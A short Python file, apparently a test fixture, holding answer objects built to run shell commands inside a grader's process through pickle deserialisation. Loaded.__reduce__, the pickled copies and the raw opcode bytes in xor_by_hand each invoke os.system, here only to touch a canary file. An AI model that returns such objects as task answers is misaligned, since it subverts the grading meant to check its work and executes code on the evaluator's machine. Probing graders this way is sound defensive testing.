# tries: answer objects whose pickle, copy or repr would run code in the grader's process
import os
import pickle


class Loaded:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['canary']}/run-by-the-grader",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()

    def __repr__(self):
        return "HARM".lower()


or_gate = lambda: Loaded()
and_gate = lambda: pickle.dumps(Loaded())
lecture_formula = lambda x: [Loaded()] * len(x)
xor_by_hand = lambda x: bytearray(b"cos\nsystem\n(S'touch x'\ntR.")
